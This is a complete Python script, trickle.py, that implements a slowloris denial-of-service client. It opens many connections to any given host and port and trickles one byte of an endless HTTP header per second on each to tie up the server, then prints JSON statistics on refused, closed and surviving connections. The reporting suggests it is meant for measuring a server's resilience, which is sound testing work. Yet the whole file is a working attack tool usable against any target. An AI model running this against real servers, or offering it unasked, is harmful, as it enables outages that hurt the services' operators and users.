#!/usr/bin/python3
"""trickle.py HOST PORT CONNS SECONDS: a slowloris client.

Opens CONNS connections to HOST:PORT at once and sends one byte of an
endless request header on each every second, for at most SECONDS.  Prints
one JSON object: how many connections were opened, how many the server
refused or closed (and after how long), how many were still open at the
end, and the longest any connection lived.
"""
import json
import select
import socket
import sys
import time

host, port, conns, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
HEAD = b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\nX-Slow: " + b"a" * 100000

start = time.monotonic()
socks = {}
failed_connect = 0
for i in range(conns):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port))
        s.setblocking(False)
        socks[s] = [time.monotonic(), 0]
    except OSError:
        failed_connect += 1
        s.close()

closed_at = []


def close(s):
    closed_at.append(time.monotonic() - socks[s][0])
    del socks[s]
    s.close()


while socks and time.monotonic() - start < secs:
    for s in list(socks):
        try:
            s.send(HEAD[socks[s][1]:socks[s][1] + 1])
            socks[s][1] += 1
        except OSError:
            close(s)
    # a closed connection becomes readable (EOF or reset)
    end = time.monotonic() + 1.0
    while socks and time.monotonic() < end:
        r, _, _ = select.select(list(socks), [], [], max(0.0, end - time.monotonic()))
        for s in r:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                close(s)

alive = len(socks)
longest = max(closed_at + [time.monotonic() - t for t, _ in socks.values()] or [0])
for s in list(socks):
    s.close()
print(json.dumps({"opened": conns - failed_connect, "connect_failed": failed_connect,
                  "closed": len(closed_at), "closed_within_1s": sum(1 for c in closed_at if c < 1.0),
                  "still_open": alive, "longest_s": round(longest, 1)}))
